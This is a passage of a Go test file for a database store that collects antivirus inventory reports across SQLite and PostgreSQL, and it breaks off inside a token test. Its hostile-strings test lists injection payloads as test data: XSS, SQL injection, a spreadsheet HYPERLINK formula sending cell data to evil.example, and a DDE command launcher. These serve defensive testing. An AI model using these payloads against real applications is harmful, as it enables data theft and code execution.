package store

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/avscout/avscout/internal/collector/internal/fleettest"
	"github.com/avscout/avscout/internal/collector/store/pgtest"
	"github.com/avscout/avscout/internal/report"
)

// pg is this package's throwaway PostgreSQL server, started by the first
// test that needs it.
var pg = pgtest.New()

func TestMain(m *testing.M) {
	code := m.Run()
	pg.Stop()
	os.Exit(code)
}

// dialects are the databases every store test runs on.
var dialects = []string{"sqlite", "postgres"}

// clock is a settable clock for the store.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func newClock(t time.Time) *clock { return &clock{t: t} }

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *clock) Set(t time.Time) {
	c.mu.Lock()
	c.t = t
	c.mu.Unlock()
}

var t0 = time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC)

// dsnFor returns a fresh database of the dialect for t.
func dsnFor(t *testing.T, dialect string) string {
	t.Helper()
	if dialect == "postgres" {
		return pg.DSN(t)
	}
	return filepath.Join(t.TempDir(), "avscout.db")
}

// openDSN opens dsn and closes it when t ends.
func openDSN(t *testing.T, dsn string, opts Options) *Store {
	t.Helper()
	s, err := Open(context.Background(), dsn, opts)
	if err != nil {
		t.Fatalf("Open(%s): %v", RedactDSN(dsn), err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	return s
}

// forEachDialect runs fn on a fresh store of every dialect.
func forEachDialect(t *testing.T, fn func(t *testing.T, s *Store, c *clock)) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			c := newClock(t0)
			s := openDSN(t, dsnFor(t, d), Options{Now: c.Now})
			if s.Dialect() != d {
				t.Fatalf("Dialect() = %q, want %q", s.Dialect(), d)
			}
			fn(t, s, c)
		})
	}
}

// undoMigration holds, for each migration after the first, statements
// that take a database back to the version before it (and remove its
// row from schema_migrations), so that tests can build the database an
// older collector left. A new migration adds its entry here.
func undoMigration(version int) []string {
	undo := map[int][]string{
		2: { // the verdict: no verdict column, compliant from products alone, the old ranks
			"DROP INDEX hosts_verdict",
			"ALTER TABLE hosts DROP COLUMN verdict",
			"UPDATE hosts SET compliant = 1, state = 'unprotected' WHERE state = 'incomplete'",
			"UPDATE hosts SET state_rank = CASE state WHEN 'restricted' THEN 0 WHEN 'unprotected' THEN 1 ELSE 2 END",
		},
		3: { // agent keys and the admin audit log
			"DROP TABLE host_keys",
			"DROP TABLE admin_audit",
			"ALTER TABLE reports DROP COLUMN public_key",
			"ALTER TABLE reports DROP COLUMN signature",
		},
		4: { // scan-time indexes
			"DROP INDEX hosts_last_generated",
			"DROP INDEX admin_audit_target",
		},
		5: { // definitions
			"DROP INDEX host_products_definitions",
			"DROP INDEX host_products_stopped",
			"ALTER TABLE host_products DROP COLUMN definitions_stopped",
			"ALTER TABLE host_products DROP COLUMN evidence",
			"ALTER TABLE host_products DROP COLUMN updates_ended",
			"ALTER TABLE host_products DROP COLUMN definitions_date",
		},
		chainMigration: { // the report and access-log chains
			"DROP TABLE chain_head",
			"DROP TABLE report_chain",
			"DROP TABLE access_chain",
		},
		7: { // the alert outbox
			"DROP TABLE alert_outbox",
		},
		9: { // the export cut of the report chain
			"ALTER TABLE chain_head DROP COLUMN cut_us",
		},
		8: { // the fleet trend and counts
			"DROP TABLE fleet_trend",
			"DROP TABLE fleet_counts",
			"DROP INDEX hosts_stale_os",
			"DROP INDEX host_tags_host",
			"DROP INDEX hosts_white_label",
			"DROP INDEX host_products_restricted",
		},
	}
	return append(undo[version], fmt.Sprintf("DELETE FROM schema_migrations WHERE version = %d", version))
}

// rollBack takes s's database back to schema version v, newest migration
// first.
func rollBack(t *testing.T, s *Store, v int) {
	t.Helper()
	for version := KnownSchemaVersion(); version > v; version-- {
		for _, q := range undoMigration(version) {
			if _, err := s.w.ExecContext(context.Background(), q); err != nil {
				t.Fatalf("undoing migration %d: %s: %v", version, q, err)
			}
		}
	}
}

// ingest stores r as received at, failing t unless the outcome is want.
func ingest(t *testing.T, s *Store, r *report.Report, at time.Time, want Outcome) {
	t.Helper()
	got, err := s.Ingest(context.Background(), Incoming{Report: r, Raw: fleettest.JSON(t, r), TokenID: "tok", ReceivedAt: at})
	if err != nil {
		t.Fatalf("Ingest(%s of %s): %v", r.ReportID, r.Host.ID, err)
	}
	if got != want {
		t.Fatalf("Ingest(%s of %s) = %v, want %v", r.ReportID, r.Host.ID, got, want)
	}
}

func count(t *testing.T, s *Store, table string) int {
	t.Helper()
	var n int
	if err := s.r.QueryRow("SELECT COUNT(*) FROM " + table).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

func ptr[T any](v T) *T { return &v }

// fleet is the hosts TestReadFilters ingests: host id → golden report.
var fleet = []struct {
	id, name, golden string
	tags             map[string]string
	seen             time.Duration // before t0 + 72h, when the test reads
}{
	{"h-deb-kes", "deb-kes", "debian-kaspersky", map[string]string{"site": "berlin"}, time.Hour},
	{"h-deb-clean", "deb-clean", "debian-clean", map[string]string{"site": "berlin"}, time.Hour},
	{"h-mac-other", "mac-other", "darwin-other-vendors", map[string]string{"site": "paris"}, time.Hour},
	{"h-mac-wl", "mac-wl", "darwin-whitelabel", nil, time.Hour},
	{"h-win-left", "win-left", "windows-leftovers", map[string]string{"site": "paris", "team": "ops"}, 60 * time.Hour},
	{"h-win-kes", "WIN-KES", "windows-kes-active", nil, 60 * time.Hour},
	{"h-win-def", "win-def", "windows-defender-crowdstrike", nil, 2 * time.Hour},
}

// TestStaleByScanTime: a host is stale by when its latest scan ran, not
// by when the report arrived. A report an agent kept queued for three
// days arrives as old as it is.
func TestStaleByScanTime(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		now := t0.Add(96 * time.Hour)
		late := fleettest.Report(t, "debian-clean", "h-late", "late", now.Add(-72*time.Hour))
		ingest(t, s, late, now.Add(-time.Minute), Stored)
		fresh := fleettest.Report(t, "debian-clean", "h-fresh", "fresh", now.Add(-2*time.Hour))
		ingest(t, s, fresh, now.Add(-time.Minute), Stored)
		c.Set(now)

		page, err := s.Hosts(ctx, HostFilter{StaleAfter: 48 * time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]HostSummary{}
		for _, h := range page.Hosts {
			got[h.ID] = h
		}
		if h := got["h-late"]; !h.Stale || !h.LastScan.Equal(now.Add(-72*time.Hour)) || !h.LastSeen.Equal(now.Add(-time.Minute)) {
			t.Errorf("late host: stale %v, last scan %v, last seen %v; want stale, scanned 72h and seen 1m before now", h.Stale, h.LastScan, h.LastSeen)
		}
		if h := got["h-fresh"]; h.Stale {
			t.Errorf("fresh host stale: %+v", h)
		}
		stale, err := s.Hosts(ctx, HostFilter{Stale: ptr(true), StaleAfter: 48 * time.Hour})
		if err != nil || len(stale.Hosts) != 1 || stale.Hosts[0].ID != "h-late" {
			t.Errorf("stale filter: %+v, %v", stale.Hosts, err)
		}
		sum, err := s.Summary(ctx, 48*time.Hour)
		if err != nil || sum.Stale != 1 {
			t.Errorf("summary stale %d, %v; want 1", sum.Stale, err)
		}
	})
}

func TestReadFilters(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		now := t0.Add(72 * time.Hour)
		for _, h := range fleet {
			r := fleettest.Report(t, h.golden, h.id, h.name, now.Add(-h.seen).Add(-time.Minute))
			r.Tags = h.tags
			ingest(t, s, r, now.Add(-h.seen), Stored)
		}
		c.Set(now)

		sum, err := s.Summary(ctx, 48*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		wantSum := Summary{Hosts: 7, Compliant: 4, Restricted: 3, Unprotected: 2, Stale: 2, WhiteLabel: 1}
		if sum.Hosts != wantSum.Hosts || sum.Compliant != wantSum.Compliant || sum.Restricted != wantSum.Restricted ||
			sum.Unprotected != wantSum.Unprotected || sum.Stale != wantSum.Stale || sum.WhiteLabel != wantSum.WhiteLabel {
			t.Errorf("Summary = %+v, want counts %+v", sum, wantSum)
		}
		if !sum.GeneratedAt.Equal(now) || sum.StaleAfter != 48*time.Hour {
			t.Errorf("Summary at %v after %v", sum.GeneratedAt, sum.StaleAfter)
		}
		var products []string
		for _, p := range sum.RestrictedProducts {
			products = append(products, fmt.Sprintf("%s=%d", p.ID, p.Hosts))
		}
		wantProducts := []string{"kaspersky-endpoint-security-linux=1", "kaspersky-endpoint-security-windows=1",
			"kaspersky-network-agent=1", "kaspersky-safeguard-pro=1"}
		if !slices.Equal(products, wantProducts) {
			t.Errorf("RestrictedProducts = %v, want %v", products, wantProducts)
		}

		for _, tt := range []struct {
			name   string
			filter HostFilter
			want   []string // host ids, in order
		}{
			{"all", HostFilter{}, []string{"h-deb-kes", "h-mac-wl", "h-win-kes", "h-deb-clean", "h-win-left", "h-mac-other", "h-win-def"}},
			{"compliant", HostFilter{Compliant: ptr(true)}, []string{"h-deb-clean", "h-win-left", "h-mac-other", "h-win-def"}},
			{"not_compliant", HostFilter{Compliant: ptr(false)}, []string{"h-deb-kes", "h-mac-wl", "h-win-kes"}},
			{"product_any_state", HostFilter{Product: "kaspersky-internet-security"}, []string{"h-win-left"}},
			{"product_unknown", HostFilter{Product: "nope"}, nil},
			{"vendor_case_insensitive", HostFilter{Vendor: "kaspersky"}, []string{"h-deb-kes", "h-mac-wl", "h-win-kes", "h-win-left"}},
			{"vendor_crowdstrike", HostFilter{Vendor: "CrowdStrike"}, []string{"h-mac-other", "h-win-def"}},
			{"state_restricted", HostFilter{State: HostRestricted}, []string{"h-deb-kes", "h-mac-wl", "h-win-kes"}},
			{"state_unprotected", HostFilter{State: HostUnprotected}, []string{"h-deb-clean", "h-win-left"}},
			{"state_clean", HostFilter{State: HostClean}, []string{"h-mac-other", "h-win-def"}},
			{"stale", HostFilter{Stale: ptr(true), StaleAfter: 48 * time.Hour}, []string{"h-win-kes", "h-win-left"}},
			{"not_stale", HostFilter{Stale: ptr(false), StaleAfter: 48 * time.Hour}, []string{"h-deb-kes", "h-mac-wl", "h-deb-clean", "h-mac-other", "h-win-def"}},
			{"stale_short_window", HostFilter{Stale: ptr(true), StaleAfter: 90 * time.Minute}, []string{"h-win-kes", "h-win-left", "h-win-def"}},
			{"tag_pair", HostFilter{Tag: "site=paris"}, []string{"h-win-left", "h-mac-other"}},
			{"tag_key", HostFilter{Tag: "team"}, []string{"h-win-left"}},
			{"tag_other_value", HostFilter{Tag: "team=dev"}, nil},
			{"search_hostname_case", HostFilter{Search: "win-k"}, []string{"h-win-kes"}},
			{"search_id", HostFilter{Search: "H-DEB"}, []string{"h-deb-kes", "h-deb-clean"}},
			{"search_wildcard_literal", HostFilter{Search: "%"}, nil},
			{"seen_since", HostFilter{SeenSince: now.Add(-90 * time.Minute)}, []string{"h-deb-kes", "h-mac-wl", "h-deb-clean", "h-mac-other"}},
			{"combined", HostFilter{Compliant: ptr(true), Tag: "site=berlin"}, []string{"h-deb-clean"}},
			{"page", HostFilter{Limit: 2, Offset: 1}, []string{"h-mac-wl", "h-win-kes"}},
			{"page_past_end", HostFilter{Limit: 2, Offset: 10}, nil},
		} {
			t.Run(tt.name, func(t *testing.T) {
				page, err := s.Hosts(ctx, tt.filter)
				if err != nil {
					t.Fatal(err)
				}
				var got []string
				for _, h := range page.Hosts {
					got = append(got, h.ID)
				}
				if !slices.Equal(got, tt.want) {
					t.Errorf("hosts = %v, want %v", got, tt.want)
				}
				wantTotal := len(tt.want)
				switch tt.name {
				case "page":
					wantTotal = 7
				case "page_past_end":
					wantTotal = 7
				}
				if page.Total != wantTotal {
					t.Errorf("Total = %d, want %d", page.Total, wantTotal)
				}
				if page.Hosts == nil {
					t.Error("Hosts is nil, want an empty list")
				}
			})
		}

		if _, err := s.Hosts(ctx, HostFilter{State: "bogus"}); !errors.Is(err, ErrInvalid) {
			t.Errorf("unknown state: err = %v, want ErrInvalid", err)
		}
		page, err := s.Hosts(ctx, HostFilter{Limit: 5000})
		if err != nil || page.Limit != MaxLimit {
			t.Errorf("Limit 5000: limit %d, err %v; want %d", page.Limit, err, MaxLimit)
		}

		// One summary row, in full.
		page, err = s.Hosts(ctx, HostFilter{Search: "deb-kes"})
		if err != nil || len(page.Hosts) != 1 {
			t.Fatalf("Hosts(deb-kes) = %+v, %v", page, err)
		}
		h := page.Hosts[0]
		want := HostSummary{
			ID: "h-deb-kes", Hostname: "deb-kes", OS: "linux", OSVersion: h.OSVersion, Arch: h.Arch, AgentVersion: "1.0.0",
			Tags: map[string]string{"site": "berlin"}, FirstSeen: now.Add(-time.Hour), LastSeen: now.Add(-time.Hour),
			LastReportID: h.LastReportID, LastScan: now.Add(-time.Hour - time.Minute), Verdict: report.VerdictNonCompliant, Compliant: false, State: HostRestricted,
			Restricted: []string{"Kaspersky Endpoint Security for Linux", "Kaspersky Security Center Network Agent"},
			Protection: []string{}, Products: 4,
		}
		if fmt.Sprint(h) != fmt.Sprint(want) || h.OSVersion == "" {
			t.Errorf("host summary\n got %+v\nwant %+v", h, want)
		}
	})
}

func TestHostDetailAndHistory(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		first := fleettest.Report(t, "debian-kaspersky", "h1", "deb1", t0)
		ingest(t, s, first, t0, Stored)
		// Kaspersky removed, leaving residue; the scan a day later says so.
		second := fleettest.Report(t, "debian-leftovers", "h1", "deb1", t0.Add(24*time.Hour))
		ingest(t, s, second, t0.Add(24*time.Hour), Stored)

		d, err := s.Host(ctx, "h1", 0)
		if err != nil {
			t.Fatal(err)
		}
		if d.State != HostUnprotected || !d.Compliant || d.LastReportID != second.ReportID || d.Products != 1 {
			t.Errorf("after removal: state %s compliant %v last %s products %d", d.State, d.Compliant, d.LastReportID, d.Products)
		}
		if d.Latest.ReportID != second.ReportID || len(d.Latest.Products) != 1 || len(d.Latest.Products[0].Evidence) == 0 {
			t.Errorf("Latest = %+v, want the second report with its evidence", d.Latest)
		}
		if !d.FirstSeen.Equal(t0) || !d.LastSeen.Equal(t0.Add(24*time.Hour)) {
			t.Errorf("seen %v … %v", d.FirstSeen, d.LastSeen)
		}
		at2 := t0.Add(24 * time.Hour)
		want := []Change{
			{At: at2, ReportID: second.ReportID, Kind: ChangeCompliance, From: "non-compliant", To: "compliant"},
			{At: at2, ReportID: second.ReportID, Kind: ChangeState, Product: "Kaspersky Endpoint Security for Linux", From: "installed", To: "leftover"},
			{At: at2, ReportID: second.ReportID, Kind: ChangeVersion, Product: "Kaspersky Endpoint Security for Linux", From: "12.1.0-2968", To: "11.4.0-5096"},
			{At: at2, ReportID: second.ReportID, Kind: ChangeRemoved, Product: "Kaspersky Security Center Network Agent", From: "installed"},
			{At: at2, ReportID: second.ReportID, Kind: ChangeRemoved, Product: "ClamAV", From: "installed"},
			{At: at2, ReportID: second.ReportID, Kind: ChangeRemoved, Product: "Microsoft Defender for Endpoint", From: "installed"},
			{At: t0, ReportID: first.ReportID, Kind: ChangeFirstReport, To: "non-compliant"},
		}
		if !equalChanges(d.History, want) {
			t.Errorf("history\n got %s\nwant %s", fmtChanges(d.History), fmtChanges(want))
		}

		// A report generated between the two arrives late: the current
		// state follows the order received, not generated_at (an agent's
		// claim), so it is the host's state now, diffed against the
		// report received before it.
		late := fleettest.Report(t, "debian-clean", "h1", "deb1-renamed", t0.Add(12*time.Hour))
		ingest(t, s, late, t0.Add(48*time.Hour), Stored)
		d, err = s.Host(ctx, "h1", 0)
		if err != nil {
			t.Fatal(err)
		}
		if d.LastReportID != late.ReportID || d.Hostname != "deb1-renamed" || d.Products != len(late.Products) {
			t.Errorf("a late report is not the current state: last %s hostname %q products %d", d.LastReportID, d.Hostname, d.Products)
		}
		if !d.LastSeen.Equal(t0.Add(48*time.Hour)) || !d.FirstSeen.Equal(t0) {
			t.Errorf("seen %v … %v, want %v … the late report's arrival", d.FirstSeen, d.LastSeen, t0)
		}
		at1 := t0.Add(12 * time.Hour)
		want = append([]Change{
			{At: at1, ReportID: late.ReportID, Kind: ChangeRemoved, Product: "Kaspersky Endpoint Security for Linux", From: "leftover"},
		}, want...)
		if !equalChanges(d.History, want) {
			t.Errorf("history after a late report\n got %s\nwant %s", fmtChanges(d.History), fmtChanges(want))
		}
		// A report dated far ahead (the collector refuses those, but the
		// store does not rely on it) does not hold the state against the
		// reports received after it.
		ahead := fleettest.Report(t, "debian-clean", "h1", "forged", t0.Add(30*24*time.Hour))
		ingest(t, s, ahead, t0.Add(60*time.Hour), Stored)

		// A newer report with a new version: the update shows.
		third := fleettest.Report(t, "debian-kaspersky", "h1", "deb1", t0.Add(72*time.Hour))
		third.Products[0].Version = "12.2.0.1"
		ingest(t, s, third, t0.Add(72*time.Hour), Stored)
		d, err = s.Host(ctx, "h1", 0)
		if err != nil {
			t.Fatal(err)
		}
		if d.State != HostRestricted || d.History[0].ReportID != third.ReportID {
			t.Errorf("after reinstall: state %s, newest change %+v", d.State, d.History[0])
		}
		if d.LastReportID != third.ReportID || d.Hostname != "deb1" {
			t.Errorf("after a report dated ahead and a later one: last %s hostname %q, want the last received", d.LastReportID, d.Hostname)
		}
		if !slices.ContainsFunc(d.History, func(c Change) bool {
			return c.ReportID == third.ReportID && c.Kind == ChangeAdded && c.Product == "Kaspersky Endpoint Security for Linux" && c.To == "installed"
		}) {
			t.Errorf("no reinstall in %s", fmtChanges(d.History))
		}

		if _, err := s.Host(ctx, "nope", 0); !errors.Is(err, ErrNotFound) {
			t.Errorf("Host(nope): err = %v, want ErrNotFound", err)
		}
		raw, err := s.Report(ctx, first.ReportID)
		if err != nil || string(raw) != string(fleettest.JSON(t, first)) {
			t.Errorf("Report(first) = %.80q, %v; want the JSON as received", raw, err)
		}
		if _, err := s.Report(ctx, report.NewID()); !errors.Is(err, ErrNotFound) {
			t.Errorf("Report(unknown): err = %v, want ErrNotFound", err)
		}
	})
}

func equalChanges(got, want []Change) bool {
	return slices.EqualFunc(got, want, func(a, b Change) bool {
		return a.At.Equal(b.At) && a.ReportID == b.ReportID && a.Kind == b.Kind && a.Product == b.Product && a.From == b.From && a.To == b.To
	})
}

func fmtChanges(cs []Change) string {
	var b strings.Builder
	for _, c := range cs {
		fmt.Fprintf(&b, "\n\t%s %s %s %q %q→%q", c.At.Format(time.RFC3339), c.ReportID[:8], c.Kind, c.Product, c.From, c.To)
	}
	return b.String()
}

func TestIngestIdempotent(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		r := fleettest.Report(t, "windows-kes-active", "h1", "win1", t0)
		raw := fleettest.JSON(t, r)
		if out, err := s.Ingest(ctx, Incoming{Report: r, Raw: raw, TokenID: "tok", ReceivedAt: t0}); err != nil || out != Stored {
			t.Fatalf("first Ingest = %v, %v", out, err)
		}
		tables := []string{"reports", "hosts", "host_products", "changes"}
		before := map[string]int{}
		for _, tb := range tables {
			before[tb] = count(t, s, tb)
		}
		// The agent retries after a lost response: same id, same bytes.
		if out, err := s.Ingest(ctx, Incoming{Report: r, Raw: raw, TokenID: "tok", ReceivedAt: t0.Add(time.Minute)}); err != nil || out != Duplicate {
			t.Fatalf("replay: Ingest = %v, %v; want duplicate", out, err)
		}
		for _, tb := range tables {
			if n := count(t, s, tb); n != before[tb] {
				t.Errorf("replay changed %s: %d rows, want %d", tb, n, before[tb])
			}
		}
		d, err := s.Host(ctx, "h1", 0)
		if err != nil || !d.LastSeen.Equal(t0) {
			t.Errorf("replay moved LastSeen to %v (err %v)", d.LastSeen, err)
		}
		// Same id, other content: refused, and nothing stored.
		other := *r
		other.Host.Hostname = "impostor"
		if _, err := s.Ingest(ctx, Incoming{Report: &other, Raw: fleettest.JSON(t, &other), TokenID: "tok", ReceivedAt: t0}); !errors.Is(err, ErrConflict) {
			t.Errorf("same id, other content: err = %v, want ErrConflict", err)
		}
		// Same id from another host: also a conflict, and no host appears.
		other.Host.ID = "h2"
		if _, err := s.Ingest(ctx, Incoming{Report: &other, Raw: fleettest.JSON(t, &other), TokenID: "tok", ReceivedAt: t0}); !errors.Is(err, ErrConflict) {
			t.Errorf("same id, other host: err = %v, want ErrConflict", err)
		}
		for _, tb := range tables {
			if n := count(t, s, tb); n != before[tb] {
				t.Errorf("conflicts changed %s: %d rows, want %d", tb, n, before[tb])
			}
		}
	})
}

func TestIngestInvalid(t *testing.T) {
	long := strings.Repeat("x", MaxTextLen+1)
	for _, tt := range []struct {
		name  string
		edit  func(r *report.Report)
		field string
	}{
		{"no_host_id", func(r *report.Report) { r.Host.ID = "" }, "host.id"},
		{"long_host_id", func(r *report.Report) { r.Host.ID = strings.Repeat("h", MaxIDLen+1) }, "host.id"},
		{"long_hostname", func(r *report.Report) { r.Host.Hostname = long }, "host.hostname"},
		{"long_product_name", func(r *report.Report) { r.Products[0].Name = long }, "products[0].name"},
		{"long_tag_value", func(r *report.Report) { r.Tags = map[string]string{"k": long} }, `tags["k"]`},
		{"empty_tag_key", func(r *report.Report) { r.Tags = map[string]string{"": "v"} }, `tags[""]`},
		{"too_many_tags", func(r *report.Report) {
			r.Tags = map[string]string{}
			for i := range MaxTags + 1 {
				r.Tags[fmt.Sprint(i)] = "v"
			}
		}, "tags"},
		{"no_time", func(r *report.Report) { r.GeneratedAt = time.Time{} }, "generated_at"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := openDSN(t, ":memory:", Options{})
			r := fleettest.Report(t, "windows-kes-active", "h1", "win1", t0)
			tt.edit(r)
			_, err := s.Ingest(context.Background(), Incoming{Report: r, Raw: fleettest.JSON(t, r), TokenID: "tok", ReceivedAt: t0})
			if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tt.field) {
				t.Errorf("err = %v, want ErrInvalid naming %s", err, tt.field)
			}
			if n := count(t, s, "reports") + count(t, s, "hosts"); n != 0 {
				t.Errorf("%d rows stored for an invalid report", n)
			}
		})
	}
	s := openDSN(t, ":memory:", Options{})
	if _, err := s.Ingest(context.Background(), Incoming{Report: nil, Raw: nil, TokenID: "tok", ReceivedAt: t0}); !errors.Is(err, ErrInvalid) {
		t.Errorf("nil report: err = %v, want ErrInvalid", err)
	}
}

// Agents' strings are stored and returned as they came, whatever they
// look like; only NUL, which PostgreSQL text cannot hold, is replaced in
// the derived columns (the stored report keeps it).
func TestHostileStrings(t *testing.T) {
	hostile := []string{
		`<script>alert("x")</script>`,
		`'; DROP TABLE hosts; --`,
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"tab\there\r\nnewline",
		`%_\ wildcards`,
		"emoji 🛡️ and ünïcödé",
	}
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		ctx := context.Background()
		for i, str := range hostile {
			r := fleettest.Report(t, "windows-kes-active", "id "+str, str, t0)
			r.Tags = map[string]string{str: str}
			r.Products[0].Name = str
			r.Products[0].Vendor = str
			ingest(t, s, r, t0, Stored)
			d, err := s.Host(ctx, "id "+str, 0)
			if err != nil {
				t.Fatalf("hostile %d: %v", i, err)
			}
			if d.Hostname != str || d.Tags[str] != str || d.Restricted[0] != str || d.Latest.Products[0].Name != str {
				t.Errorf("hostile %d: got hostname %q tags %q restricted %q", i, d.Hostname, d.Tags, d.Restricted)
			}
			f := HostFilter{Vendor: str, Tag: str + "=" + str, Search: str}
			if strings.Contains(str, "=") {
				f.Tag = "" // the filter splits key=value at the first =
			}
			page, err := s.Hosts(ctx, f)
			if err != nil || len(page.Hosts) != 1 || page.Hosts[0].ID != "id "+str {
				t.Errorf("hostile %d: filters found %+v, %v", i, page.Hosts, err)
			}
		}
		if n := count(t, s, "hosts"); n != len(hostile) {
			t.Errorf("%d hosts, want %d: something was dropped", n, len(hostile))
		}
		page, err := s.Hosts(ctx, HostFilter{Search: "%_"})
		if err != nil || page.Total != 1 {
			t.Errorf("search for literal %%_: total %d, %v; want 1", page.Total, err)
		}

		r := fleettest.Report(t, "windows-kes-active", "nul\x00id", "nul\x00name", t0)
		ingest(t, s, r, t0, Stored)
		d, err := s.Host(ctx, "nul\x00id", 0)
		if err != nil {
			t.Fatal(err)
		}
		if d.ID != "nul\uFFFDid" || d.Hostname != "nul\uFFFDname" || d.Latest.Host.Hostname != "nul\x00name" {
			t.Errorf("NUL: id %q hostname %q latest %q", d.ID, d.Hostname, d.Latest.Host.Hostname)
		}
	})
}

func TestConcurrentIngest(t *testing.T) {
	forEachDialect(t, func(t *testing.T, s *Store, c *clock) {
		const hosts, perHost = 4, 6
		var wg sync.WaitGroup
		errs := make(chan error, hosts*perHost*2)
		reports := map[string][]*report.Report{}
		for h := range hosts {
			id := fmt.Sprintf("h%d", h)
			for i := range perHost {
				golden := []string{"windows-kes-active", "windows-leftovers", "windows-clean"}[i%3]
				reports[id] = append(reports[id], fleettest.Report(t, golden, id, id, t0.Add(time.Duration(i)*time.Hour)))
			}
		}
		for _, rs := range reports {
			for _, r := range rs {
				raw := fleettest.JSON(t, r)
				for range 2 { // every report twice, at once: once stored, once a duplicate
					wg.Go(func() {
						if _, err := s.Ingest(context.Background(), Incoming{Report: r, Raw: raw, TokenID: "tok", ReceivedAt: t0}); err != nil {
							errs <- err
						}
					})
				}
			}
		}
		wg.Wait()
		close(errs)
		for err := range errs {
			t.Error(err)
		}
		if n := count(t, s, "reports"); n != hosts*perHost {
			t.Errorf("%d reports stored, want %d", n, hosts*perHost)
		}
		for id, rs := range reports {
			d, err := s.Host(context.Background(), id, 0)
			if err != nil {
				t.Fatal(err)
			}
			// Whatever the order of arrival, the host's current report is
			// the last one received, and its history is the chain of diffs
			// in that order.
			byID := map[string]*report.Report{}
			for _, r := range rs {
				byID[r.ReportID] = r
			}
			order := receivedOrder(t, s, id)
			if len(order) != len(rs) || d.LastReportID != order[len(order)-1] {
				t.Errorf("%s: current report %s, want the last received of %v", id, d.LastReportID, order)
				continue
			}
			var want []Change
			var prev *snapshot
			for _, rid := range order {
				cur := snapshotOf(byID[rid])
				want = append(diff(prev, cur), want...)
				prev = &cur
			}
			if !equalChanges(d.History, want) {
				t.Errorf("%s: history\n got %s\nwant %s", id, fmtChanges(d.History), fmtChanges(want))
			}
		}
	})
}

// receivedOrder lists the host's report ids in the order stored.
func receivedOrder(t *testing.T, s *Store, hostID string) []string {
	t.Helper()
	rows, err := s.r.Query("SELECT id FROM reports WHERE host_id = $1 ORDER BY received_at, id", hostID)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var ids []string
	for rows.Next() {
		var id string
		if err := rows.Scan(&id); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return ids
}

func TestTokens(t *testing.T) {
	for _, d := range dialects {
		t.Run(d, func(t *testing.T) {
			ctx := context.Background()
			dsn := dsnFor(t, d)
			a := openDSN(t, dsn, Options{TokenCacheTTL: 50 * time.Millisecond})
			b := openDSN(t, dsn, Options{TokenCacheTTL: 50 * time.Millisecond}) // another replica

			id, secret, err := a.CreateToken(ctx, "  fleet-2026  ")
			if err != nil {
				t.Fatal(err)
			}
			id2, secret2, err := a.CreateToken(ctx, "lab")
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(secret, SecretPrefix) || len(secret) < 40 || secret == secret2 || id == id2 {
				t.Errorf("secrets %q %q ids %q %q", secret, secret2, id, id2)
			}
			for _, s := range []*Store{a, b} {
				if got, err := waitAuth(s, secret, true); err != nil || got != id {
					t.Errorf("Authenticate(secret) = %q, %v; want %q", got, err, id)
				}
				if got, err := s.Authenticate(ctx, secret2); err != nil || got != id2 {
					t.Errorf("Authenticate(secret2) = %q, %v; want %q", got, err, id2)
				}
			}
			for _, bad := range []string{"", secret + "x", secret[:len(secret)-1], strings.ToUpper(secret)} {
				if _, err := a.Authenticate(ctx, bad); !errors.Is(err, ErrUnauthorized) {
					t.Errorf("Authenticate(%q): err = %v, want ErrUnauthorized", bad, err)
				}
			}
			// The secret is not in the database, in any form but its hash.
			var n int
			if err := a.r.QueryRow("SELECT COUNT(*) FROM tokens WHERE name = $1 OR id = $1 OR secret_sha256 = $2", secret, []byte(secret)).Scan(&n); err != nil || n != 0 {
				t.Errorf("secret found in tokens table (%d rows, %v)", n, err)
			}

			if err := a.RevokeToken(ctx, id); err != nil {
				t.Fatal(err)
			}
			if err := a.RevokeToken(ctx, id); err != nil {
				t.Errorf("revoking twice: %v", err)
			}
			if err := a.RevokeToken(ctx, "nope"); !errors.Is(err, ErrNotFound) {
				t.Errorf("revoking unknown: err = %v, want ErrNotFound", err)
			}
			if _, err := a.Authenticate(ctx, secret); !errors.Is(err, ErrUnauthorized) {
				t.Errorf("revoked token accepted by the replica that revoked it: %v", err)
			}
			// The other replica refuses it once its cache expires.
			if _, err := waitAuth(b, secret, false); err != nil {
				t.Errorf("revoked token still accepted by another replica: %v", err)
			}
			if got, err := b.Authenticate(ctx, secret2); err != nil || got != id2 {
				t.Errorf("other token after revocation: %q, %v", got, err)
			}

			list, err := b.ListTokens(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if len(list) != 2 || list[0].ID != id || list[0].Name != "fleet-2026" || !list[0].Revoked() ||
				list[1].ID != id2 || list[1].Revoked() || list[1].CreatedAt.IsZero() {
				t.Errorf("ListTokens = %+v", list)
			}

			r := fleettest.Report(t, "debian-clean", "h1", "h1", t0)
			if _, err := a.Ingest(ctx, Incoming{Report: r, Raw: fleettest.JSON(t, r), TokenID: id2, ReceivedAt: t0}); err != nil {
				t.Fatal(err)
			}
			list, _ = a.ListTokens(ctx)
			if !list[1].LastUsed.Equal(t0) {
				t.Errorf("LastUsed = %v, want %v", list[1].LastUsed, t0)
			}

